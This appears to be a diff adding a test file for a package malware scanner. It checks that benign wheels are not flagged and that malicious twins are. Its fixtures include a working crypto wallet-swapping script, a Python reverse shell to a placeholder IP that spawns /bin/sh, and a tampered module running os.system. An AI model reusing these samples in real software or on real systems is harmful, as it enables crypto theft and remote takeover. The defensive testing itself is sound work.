@@ -1,0 +1,164 @@
+"""Shapes of popular releases that cried wolf on the tune-only popular corpora (round 7, the
+third rank band), read as what they are (no project names), each beside its malicious twin
+that must stay high:
+
+* strings shaped like wallet addresses that fail their checksum (hashes, type names) in a
+  web bundle are no hard-coded wallets;
+* a Unix-domain socket wired to stdout/stderr forwards logs on this machine: no remote shell;
+* a RECORD that writes its sha256 digests in hex instead of base64 still matches its files.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+
+from app.core.archive import open_artifact
+from app.core.capabilities.scan import scan_artifact
+from tests.core.archive.fixtures import make_wheel, wheel_entries, zip_bytes
+
+HIGH = ("high", "critical")
+
+
+def _wheel(tmp_path, files, name="gizmo"):
+    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))
+
+
+def _ids(res) -> set[str]:
+    return {t.id for t in res.threats if t.severity in HIGH}
+
+
+def _base58check(payload: bytes) -> str:
+    """A Base58Check string (how legacy Bitcoin and Tron addresses are written)."""
+    raw = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
+    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+    n = int.from_bytes(raw, "big")
+    out = ""
+    while n:
+        n, r = divmod(n, 58)
+        out = alphabet[r] + out
+    return "1" * (len(raw) - len(raw.lstrip(b"\0"))) + out
+
+
+# A served web bundle: GraphQL documents with their hashes, a type name, and an example of
+# code (a levenshtein distance metric) shown in the UI: the words the wallet rule looks for.
+BUNDLE = """var docs = [
+  {params: {cacheID: `129953ba27b24f48a92cca26e4b7c447`, name: `DocumentEvaluations`}},
+  {params: {cacheID: `168827e655c5f9253bfa1d98b1de81d2`, name: `AnnotationConfigs`}},
+  {hash: `1373592362afe61d9d8636731df55497`},
+  {concreteType: `TraceTokenCountTimeSeriesDataPoint`, kind: `LinkedField`},
+];
+var example = `def levenshtein_distance(expected: str, actual: str) -> int: ...`;
+export function render(el) { el.textContent = JSON.stringify(docs) + example; }
+"""
+
+
+def test_hashes_shaped_like_wallet_addresses_are_no_wallet_swap(tmp_path):
+    """32-digit hex hashes and CamelCase type names have the shape of Bitcoin and Tron
+    addresses but not their checksum: a bundle holding them beside the word levenshtein is
+    no wallet swapper."""
+    res = _wheel(
+        tmp_path,
+        {"gizmo/__init__.py": b"", "gizmo/static/assets/index.js": BUNDLE.encode()},
+    )
+    assert "hijack.wallet_swap" not in {h.capability for h in res.findings}
+    assert res.risk.level not in HIGH
+
+
+def test_real_addresses_with_the_same_rewriting_code_stay_a_wallet_swap(tmp_path):
+    """Three addresses that pass their checksum (legacy, Tron-style, Bech32) beside code
+    that matches addresses by edit distance: crypto theft, critical."""
+    legacy = _base58check(b"\0" + bytes(range(20)))
+    tron = _base58check(b"\x41" + bytes(range(20, 40)))
+    bech = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"  # BIP 173's example address
+    swapper = (
+        f'const mine = ["{legacy}", "{tron}", "{bech}"];\n'
+        "function levenshtein(a, b) { return Math.abs(a.length - b.length); }\n"
+        "export function fix(text) { return text.replace(/[13][a-km-zA-HJ-NP-Z1-9]{25,34}/g,"
+        " (w) => mine.sort((x, y) => levenshtein(x, w) - levenshtein(y, w))[0]); }\n"
+    )
+    res = _wheel(
+        tmp_path, {"gizmo/__init__.py": b"", "gizmo/static/assets/index.js": swapper.encode()}
+    )
+    assert "chain.wallet_swap" in _ids(res)
+    assert res.risk.level == "critical"
+
+
+LOG_REDIRECT = b"""import os
+import socket
+import sys
+
+
+def _redirect_stream_to_fd(stream_fd, socket_path):
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+        s.connect(socket_path)
+        os.dup2(s.fileno(), stream_fd)
+
+
+def redirect_output(socket_path):
+    for fd in (sys.stdout.fileno(), sys.stderr.fileno()):
+        _redirect_stream_to_fd(fd, socket_path)
+"""
+
+
+def test_a_unix_socket_wired_to_stdout_is_log_forwarding_not_a_reverse_shell(tmp_path):
+    """A serverless runtime hands its workers' output to the platform's log collector over
+    a Unix-domain socket (a file on this machine, that no remote host can reach)."""
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/workers.py": LOG_REDIRECT})
+    assert "net.reverse_shell" not in {h.capability for h in res.findings}
+    assert res.risk.level not in HIGH
+
+
+def test_a_network_socket_wired_to_standard_streams_stays_a_reverse_shell(tmp_path):
+    """The same code over an internet socket (and over create_connection, in a
+    comprehension) is a reverse shell."""
+    inet = LOG_REDIRECT.replace(b"socket.AF_UNIX", b"socket.AF_INET")
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/workers.py": inet})
+    assert "chain.reverse_shell" in _ids(res)
+    shell = (
+        b"import os, pty, socket\n"
+        b"def connect():\n"
+        b"    s = socket.create_connection(('192.0.2.7', 4444))\n"
+        b"    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
+        b"    pty.spawn('/bin/sh')\n"
+    )
+    (tmp_path / "b").mkdir()
+    res = _wheel(tmp_path / "b", {"gizmo/__init__.py": b"", "gizmo/shell.py": shell})
+    assert "chain.reverse_shell" in _ids(res)
+    assert res.risk.level == "critical"
+
+
+def _record_wheel(tmp_path, encode, tamper: bool = False):
+    """A wheel whose RECORD gives each file's sha256 through ``encode``; ``tamper`` changes
+    a module after RECORD was written."""
+    module = b"def correlation_id():\n    return 'x'\n"
+    entries = wheel_entries("gizmo", "1.0", {"gizmo/middleware.py": module})
+    rows = []
+    for path, data in entries.items():
+        digest = encode(hashlib.sha256(data).digest())
+        rows.append(f"{path},sha256={digest},{len(data)}")
+    rows.append("gizmo-1.0.dist-info/RECORD,,")
+    entries["gizmo-1.0.dist-info/RECORD"] = ("\n".join(rows) + "\n").encode()
+    if tamper:
+        entries["gizmo/middleware.py"] = module + b"import os; os.system('id')\n"
+    tmp_path.mkdir(exist_ok=True)
+    out = tmp_path / "gizmo-1.0-py3-none-any.whl"
+    out.write_bytes(zip_bytes(entries))
+    return scan_artifact(open_artifact(out))
+
+
+def test_a_record_with_hex_digests_that_match_is_no_mismatch(tmp_path):
+    """Some build tools write RECORD's sha256 in hex, not urlsafe base64: every file still
+    matches what was recorded."""
+    res = _record_wheel(tmp_path, lambda raw: raw.hex())
+    assert "install.record_mismatch" not in {h.capability for h in res.findings}
+    assert res.risk.level not in HIGH
+
+
+def test_a_file_changed_after_a_hex_or_base64_record_stays_a_mismatch(tmp_path):
+    for i, encode in enumerate(
+        (lambda raw: raw.hex(), lambda raw: base64.urlsafe_b64encode(raw).rstrip(b"=").decode())
+    ):
+        res = _record_wheel(tmp_path / str(i), encode, tamper=True)
+        assert "mismatch.record" in _ids(res)
+        assert res.risk.level in HIGH
